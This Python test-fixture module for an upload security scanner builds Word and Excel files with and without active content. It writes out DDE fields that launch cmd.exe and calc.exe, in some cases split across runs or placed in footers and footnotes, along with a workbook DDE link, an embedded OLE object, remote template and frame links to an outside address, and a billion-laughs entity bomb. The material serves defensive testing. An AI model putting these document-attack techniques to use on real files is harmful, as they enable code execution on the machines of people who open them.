"""Word and Excel files, written part by part, with and without DDE fields, embedded objects,
ActiveX controls and links to outside templates or frames (tests/security/test_uploads.py)."""

from tests.documents.active_files import (
    PARAGRAPH,
    VBA_PROJECT,
    word_part,
    zipped,
)

TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels"'
    ' ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>{extra}'
    '<Override PartName="/word/document.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    "</Types>"
)
OLE_TYPE = (
    '<Default Extension="bin"'
    ' ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
)
RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    "{}</Relationships>"
)
REL = (
    '<Relationship Id="{id}"'
    ' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{type}"'
    ' Target="{target}"{mode}/>'
)


def rel(id, type, target, external=False):
    return REL.format(
        id=id, type=type, target=target, mode=' TargetMode="External"' if external else ""
    )


def complex_field(*code_pieces):
    """A field as Word writes it: begin, its code in one or more runs, separate, result, end."""
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>'
        for piece in code_pieces
    )
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def simple_field(code):
    code = code.replace('"', "&quot;")
    return f'<w:p><w:fldSimple w:instr="{code}"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'


# Fields reports have: a table of contents, a hyperlink, an IF whose text says DDE.
ORDINARY_FIELDS = (
    complex_field(" TOC \\o &quot;1-3&quot; \\h ")
    + complex_field(" HYPERLINK &quot;https://www.ani.pt/dde&quot; ")
    + complex_field(" IF ", "1 = 1 &quot;DDE&quot; &quot;x&quot; ")
)
DDE_COMMAND = 'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'


def report(parts=None, types="", document_body=ORDINARY_FIELDS, document_rels=""):
    """A Word report with a header, a footer, footnotes and an outside hyperlink."""
    members = {
        "[Content_Types].xml": TYPES.format(extra=types),
        "_rels/.rels": RELS.format(rel("rId1", "officeDocument", "word/document.xml")),
        "word/document.xml": word_part("document", PARAGRAPH + document_body),
        "word/_rels/document.xml.rels": RELS.format(
            rel("rId1", "header", "header1.xml")
            + rel("rId2", "footer", "footer1.xml")
            + rel("rId3", "footnotes", "footnotes.xml")
            + rel("rId4", "hyperlink", "https://www.ani.pt/", external=True)
            + rel("rId5", "image", "media/image1.png")
            + document_rels
        ),
        "word/header1.xml": word_part("hdr", PARAGRAPH),
        "word/footer1.xml": word_part("ftr", simple_field(" PAGE ")),
        "word/footnotes.xml": word_part(
            "footnotes", '<w:footnote w:id="1">' + PARAGRAPH + "</w:footnote>"
        ),
        "word/media/image1.png": b"\x89PNG\r\n\x1a\n" + b"\x00" * 64,
    }
    members.update(parts or {})
    return zipped(members)


def dde_in_document():
    return report(document_body=complex_field(" DDEAUTO ", DDE_COMMAND))


def dde_split_across_runs():
    """Word splits a field's code over several runs as the author edits it."""
    return report(document_body=complex_field(" DD", "EAUTO " + DDE_COMMAND))


def dde_in_footer():
    return report({"word/footer1.xml": word_part("ftr", simple_field(" DDE excel " + DDE_COMMAND))})


def dde_in_footnote():
    footnote = '<w:footnote w:id="1">' + complex_field("dde ", DDE_COMMAND) + "</w:footnote>"
    return report({"word/footnotes.xml": word_part("footnotes", footnote)})


def ole_object():
    return report(
        {"word/embeddings/oleObject1.bin": VBA_PROJECT},
        types=OLE_TYPE,
        document_rels=rel("rId9", "oleObject", "embeddings/oleObject1.bin"),
    )


def embedded_package():
    return report({"word/embeddings/Microsoft_Excel_Worksheet.xlsx": zipped({"x": "y"})})


def remote_template():
    """Settings that load a template from another address when the document opens."""
    return report(
        {
            "word/settings.xml": word_part("settings", '<w:attachedTemplate r:id="rId1"/>'),
            "word/_rels/settings.xml.rels": RELS.format(
                rel("rId1", "attachedTemplate", "http://198.51.100.7/t.dotm", external=True)
            ),
        }
    )


def local_template():
    """The template Word records on every document, on the author's disk: not loaded."""
    return report(
        {
            "word/settings.xml": word_part("settings", '<w:attachedTemplate r:id="rId1"/>'),
            "word/_rels/settings.xml.rels": RELS.format(
                rel("rId1", "attachedTemplate", "Normal.dotm")
            ),
        }
    )


def remote_frame():
    return report(
        {
            "word/_rels/webSettings.xml.rels": RELS.format(
                rel("rId1", "frame", "http://198.51.100.7/f.html", external=True)
            )
        }
    )


def activex_control():
    return report(
        {
            "word/activeX/activeX1.xml": "<ax:ocx xmlns:ax='http://schemas.microsoft.com/office/2006/activeX'/>"
        },
        document_rels=rel("rId9", "control", "activeX/activeX1.xml"),
    )


def workbook_with_dde_link():
    link = (
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    )
    return zipped(
        {
            "[Content_Types].xml": TYPES.format(extra=""),
            "xl/workbook.xml": '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
            "xl/externalLinks/externalLink1.xml": link,
        }
    )


def entity_expansion():
    """A 'billion laughs' relationships part: defusedxml refuses it rather than expanding it."""
    bomb = (
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">'
        '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        "&b;</Relationships>"
    )
    return report({"word/_rels/document.xml.rels": bomb})
